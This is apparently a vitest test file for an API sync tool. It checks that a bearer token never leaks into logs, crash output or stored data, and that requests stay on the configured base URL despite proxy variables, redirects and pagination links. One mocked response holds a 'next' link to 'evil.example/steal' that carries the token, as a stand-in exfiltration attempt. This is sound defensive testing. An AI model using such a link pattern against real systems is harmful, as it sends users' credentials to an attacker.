import { expect, it } from 'vitest'
import { type Reply, serve } from '../helpers/list-server.ts'
import { faultsOf } from '../helpers/processes.ts'
import { ACME, createScene } from '../helpers/scene.ts'
import { leaksOf, organization } from '../helpers/workspace.ts'

// Where the token may not show and requests may not go, whatever happens and whoever asks for it. Each workspace looks for
// its tokens in all that the program wrote.

/** Answers that show the token that came, as debug pages do. */
const ECHOES: Record<string, (token: string) => Reply> = {
  SERVER_ERROR: (token) => ({ status: 500, body: { message: `You sent ${token}.`, token } }),
  UNEXPECTED_STATUS: (token) => ({ status: 302, headers: { location: `/login?token=${token}` } }),
  BAD_RESPONSE: (token) => ({ body: `<html><title>Whoops ${token}</title></html>` }),
  LINK_REFUSED: (token) => ({
    body: {
      data: [{ id: 1 }],
      links: { next: `http://${token}:x@evil.example/steal?token=${token}&page=3` },
      meta: { current_page: 1, last_page: 2, total: 2 },
    },
  }),
}

it('the token shows in nothing that is written of answers that repeat it', async () => {
  const organizations = Object.keys(ECHOES).map((code, index) => organization(code, index + 1))
  const { workspace } = await createScene({
    settings: { organizations },
    instead: ({ token }) => {
      const [, echo] = Object.entries(ECHOES).find(([code]) => token.includes(code)) ?? []
      return echo?.(token) ?? null
    },
  })

  const { code } = await workspace.run(['sync', '--log-level', 'trace'])

  expect(code).toBe(1)
  const ended = workspace.rows<{ code: string }>('SELECT error_code AS code FROM sync_runs ORDER BY 1')
  expect(ended.map((run) => run.code)).toEqual(Object.keys(ECHOES).toSorted())
  expect(workspace.leaks).toEqual([])
})

it('the token shows in no output of a crash that nobody catches', async () => {
  const { workspace } = await createScene()
  const headers = { authorization: `Bearer ${ACME.token}` }
  const throws = { options: { headers }, request: { headers }, cause: { headers } }

  const env = faultsOf({ at: '^INSERT INTO sync_walks', does: { throws } })
  const sync = await workspace.run(['sync', '--log-level', 'trace'], { env })

  expect([sync.code, sync.stderr]).toEqual([1, expect.stringMatching(/^INTERNAL: Error: planted/m)])
  expect(workspace.leaks).toEqual([])
})

it('the token goes to baseUrl alone, whatever the environment and an answer say, and nothing is handed back', async () => {
  const elsewhere = await serve(() => ({ body: 'you should not be here' }))
  // As where a proxy's word on the host got into the links.
  const next = `${elsewhere.url}/api/v1/admin/orders?page=2`
  const headers = {
    'set-cookie': 'session=1; Path=/',
    link: `<${next}>; rel="next"`,
    location: `${elsewhere.url}/login`,
    'alt-svc': `http/1.1="${new URL(elsewhere.url).host}"`,
    'www-authenticate': 'Basic',
  }
  const { server, workspace } = await createScene({
    instead: ({ page }) => {
      const meta = { current_page: page, last_page: 2, total: 2 }
      return { headers, body: { data: [{ id: page }], links: { next: page === 1 ? next : null }, meta } }
    },
  })
  const env = { HTTP_PROXY: elsewhere.url, http_proxy: elsewhere.url, NODE_USE_ENV_PROXY: '1' }

  expect((await workspace.run(['sync'], { env })).code).toBe(0)
  expect(elsewhere.asked).toEqual([])
  expect(server.asked.map(({ page }) => page)).toEqual([1, 2, 1])
  const sent = new Set(server.asked.flatMap((asked) => Object.keys(asked.headers)))
  expect([...sent].toSorted().join(' ')).toBe(
    'accept accept-encoding authorization connection host user-agent x-service-organization',
  )
})

it('the search for tokens finds one that is whole, cut short, encoded or in capitals', () => {
  const token = '7|Secret/of+acme-x7Qp93LmZt5VbRw'
  const shown = [token, `${token.slice(0, 20)}...`, encodeURIComponent(token), token.toUpperCase()]

  for (const text of shown) expect(leaksOf([token], ['nothing', `a ${text} b`])).toHaveLength(1)
  expect(leaksOf([token], ['7 of them are secret [token]'])).toEqual([])
})
